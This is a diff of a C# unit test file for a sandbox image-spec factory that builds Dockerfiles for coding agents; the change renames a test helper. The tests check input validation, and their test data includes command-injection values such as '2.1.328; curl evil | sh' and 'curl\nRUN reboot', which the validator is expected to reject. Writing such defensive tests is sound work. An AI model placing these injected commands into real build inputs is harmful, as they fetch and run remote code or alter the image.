@@ -1,5 +1,5 @@
-using AgentSandbox.Image;
 using AgentSandbox.Errors;
+using AgentSandbox.Image;
 using AgentSandbox.Project;
 using AgentSandbox.Sdk.Tests.TestSupport;
 using AgentSandbox.Spec;
@@ -115,7 +115,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void Explicit_base_image_wins_and_is_trimmed()
     {
-        var spec = Create(Metadata(["net8.0"], globalJsonSdkVersion: "9.0.100"), Inputs(baseImage: "  ubuntu:24.04 "));
+        var spec = Create(Metadata(["net8.0"], globalJsonSdkVersion: "9.0.100"), ImageInputs(baseImage: "  ubuntu:24.04 "));
 
         Assert.Equal("ubuntu:24.04", spec.BaseImage);
     }
@@ -123,7 +123,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void Blank_base_image_counts_as_not_set()
     {
-        var spec = Create(Metadata(["net8.0"]), Inputs(baseImage: "   "));
+        var spec = Create(Metadata(["net8.0"]), ImageInputs(baseImage: "   "));
 
         Assert.Equal("mcr.microsoft.com/dotnet/sdk:8.0", spec.BaseImage);
     }
@@ -134,7 +134,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     public void Base_image_that_would_add_dockerfile_instructions_is_rejected(string baseImage)
     {
         // AgentBaseImage is written verbatim after FROM; a line break in it becomes further Dockerfile instructions.
-        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: Inputs(baseImage: baseImage)));
+        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(baseImage: baseImage)));
 
         Assert.Equal("AGS1005", error.Code);
     }
@@ -153,7 +153,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [InlineData(" 2.2.0-beta.1 ", "2.2.0-beta.1")]
     public void Agent_version_override_is_used(string given, string expected)
     {
-        var spec = Create(inputs: Inputs(agentVersion: given));
+        var spec = Create(inputs: ImageInputs(agentVersion: given));
 
         Assert.Equal(expected, spec.AgentVersion.ToNormalizedString());
     }
@@ -165,7 +165,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [InlineData("2.1.328; curl evil | sh")]
     public void Invalid_agent_version_is_rejected(string version)
     {
-        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: Inputs(agentVersion: version)));
+        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(agentVersion: version)));
 
         Assert.Equal("AGS1005", error.Code);
         Assert.Contains("AgentVersion", error.Message);
@@ -174,7 +174,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void Unknown_agent_kind_is_rejected_with_the_known_kinds()
     {
-        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: Inputs(agentKind: "gpt")));
+        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(agentKind: "gpt")));
 
         Assert.Equal("AGS1004", error.Code);
         Assert.Contains("claude", error.Message);
@@ -183,7 +183,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void Agent_kind_is_case_insensitive()
     {
-        var spec = Create(inputs: Inputs(agentKind: " Claude "));
+        var spec = Create(inputs: ImageInputs(agentKind: " Claude "));
 
         Assert.Equal("claude", spec.Agent.Kind);
     }
@@ -191,7 +191,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void System_packages_are_trimmed_deduplicated_and_blank_ones_dropped()
     {
-        var spec = Create(inputs: Inputs(systemPackages: [" jq ", "", "jq", "libicu-dev", "  "]));
+        var spec = Create(inputs: ImageInputs(systemPackages: [" jq ", "", "jq", "libicu-dev", "  "]));
 
         Assert.Equal(["jq", "libicu-dev"], spec.SystemPackages);
     }
@@ -204,7 +204,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [InlineData("busybox~1.36")]
     public void Ordinary_package_names_with_versions_are_accepted(string package)
     {
-        var spec = Create(inputs: Inputs(systemPackages: [package]));
+        var spec = Create(inputs: ImageInputs(systemPackages: [package]));
 
         Assert.Equal([package], spec.SystemPackages);
     }
@@ -219,7 +219,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [InlineData("curl\nRUN reboot")]
     public void Package_names_that_a_shell_would_interpret_are_rejected(string package)
     {
-        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: Inputs(systemPackages: ["git", package])));
+        var error = Assert.Throws<AgentSandboxException>(() => Create(inputs: ImageInputs(systemPackages: ["git", package])));
 
         Assert.Equal("AGS1005", error.Code);
         Assert.Contains("AgentSystemPackage", error.Message);
@@ -230,7 +230,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     {
         var project = Metadata(projectDirectory: _temp.Path);
 
-        var error = Assert.Throws<AgentSandboxException>(() => Create(project, Inputs(caCertificateFiles: ["certs/proxy.pem"])));
+        var error = Assert.Throws<AgentSandboxException>(() => Create(project, ImageInputs(caCertificateFiles: ["certs/proxy.pem"])));
 
         Assert.Equal("AGS1007", error.Code);
         Assert.Contains(_temp.Combine("certs/proxy.pem"), error.Message);
@@ -242,7 +242,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
         _temp.Write("certs/a.pem", "\n-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n\n");
         var absolute = _temp.Write("b.pem", "-----BEGIN CERTIFICATE-----\nBBB\n-----END CERTIFICATE-----");
 
-        var spec = Create(Metadata(projectDirectory: _temp.Path), Inputs(caCertificateFiles: ["certs/a.pem", absolute, " certs/a.pem "]));
+        var spec = Create(Metadata(projectDirectory: _temp.Path), ImageInputs(caCertificateFiles: ["certs/a.pem", absolute, " certs/a.pem "]));
 
         Assert.Equal(
             "-----BEGIN CERTIFICATE-----\nAAA\n-----END CERTIFICATE-----\n-----BEGIN CERTIFICATE-----\nBBB\n-----END CERTIFICATE-----\n",
@@ -252,7 +252,7 @@ public sealed class SandboxImageSpecFactoryTests : IDisposable
     [Fact]
     public void No_ca_certificate_files_means_no_certificates()
     {
-        var spec = Create(inputs: Inputs(caCertificateFiles: ["", "  "]));
+        var spec = Create(inputs: ImageInputs(caCertificateFiles: ["", "  "]));
 
         Assert.Null(spec.CaCertificates);
     }
